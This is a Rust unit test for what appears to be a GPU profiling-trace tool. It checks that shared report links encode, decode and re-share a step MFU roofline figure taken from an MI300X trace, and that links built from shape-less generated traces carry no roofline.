fn a_link_carries_the_step_mfu_and_links_without_it_still_open() {
    let Some(dir) = shared_traces("a_link_carries_the_step_mfu_and_links_without_it_still_open")
    else {
        return;
    };
    // A real MI300X trace that records shapes: its report has a step MFU.
    let path = dir.join(
        "AMD-AGI__TraceLens/tests__traces__mi300__Falconsai_nsfw_image_detection__1016002.json.gz",
    );
    let shared = shared_report_of(&read(&std::fs::read(&path).unwrap()));
    let mfu = shared.report.roofline.as_ref().and_then(|r| r.mfu);
    let mfu = mfu.expect("the MI300X trace's report has a step MFU");
    assert!(mfu > 0.0 && mfu < 1.0, "{mfu}");
    let encoded = encode(&shared, &ShareOptions::default()).unwrap();
    assert!(encoded.bytes <= share::DEFAULT_MAX_BYTES);
    let got = opened(&encoded.fragment);
    let bound = shared
        .report
        .roofline
        .as_ref()
        .and_then(|r| r.mfu_uncounted);
    assert_eq!(got.report.roofline, Some(Roofline::carried(mfu, bound)));
    assert!(got
        .report
        .to_markdown("shared")
        .contains(&format!("Step MFU {:.1}%", 100.0 * mfu)));
    // Opened and shared again, the MFU travels on.
    let again = encode(&got, &ShareOptions::default()).unwrap();
    assert_same(&opened(&again.fragment), &got, "shared twice");

    // A generated trace records no shapes: its link carries no MFU, as links written before
    // the field did not, and opens without a roofline.
    let without = small();
    assert!(without
        .report
        .roofline
        .as_ref()
        .is_some_and(|r| r.coverage.counted_ms == 0.0));
    let facts = facts_json(&without);
    assert!(facts.get("mfu").is_none(), "{facts}");
    let got = opened(&link_of(&serde_json::to_vec(&facts).unwrap()));
    assert_eq!(got.report.roofline, None);
    assert!(!got.report.to_markdown("shared").contains("Roofline"));
}
